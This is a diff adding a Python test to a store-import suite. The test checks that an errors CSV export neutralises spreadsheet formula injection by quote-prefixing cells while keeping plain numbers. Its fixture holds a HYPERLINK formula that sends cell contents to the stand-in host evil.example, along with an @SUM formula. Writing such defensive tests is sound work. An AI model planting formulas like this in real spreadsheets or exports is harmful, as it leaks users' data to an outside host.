@@ -349,3 +349,18 @@ def test_store_staff_follow_an_imports_progress_on_their_store_topic(
     assert finished == [{**progress[-1], "status": "completed"}] and job.successful == 5
     # Another store's owner may not follow this store's topic.
     assert callers["owner_b"].get(url).status_code == 403
+
+
+def test_the_errors_file_makes_formula_cells_inert_and_keeps_plain_numbers(
+    upload, run, callers, store_a
+):
+    content = (
+        'name,qty,mrp\n"=HYPERLINK(""http://evil.example/?""&A1,""click"")",-3,40\n'
+        "@SUM(1+1),5,-12.50\n"
+    )
+    job = run(upload(content.encode()).json()["id"])
+    response = callers["staff_a"].get(f"/api/v1/stores/{store_a.pk}/imports/{job.pk}/errors.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][:2] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "-3"]
+    assert rows[2][:3] == ["'@SUM(1+1)", "5", "-12.50"]
+    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
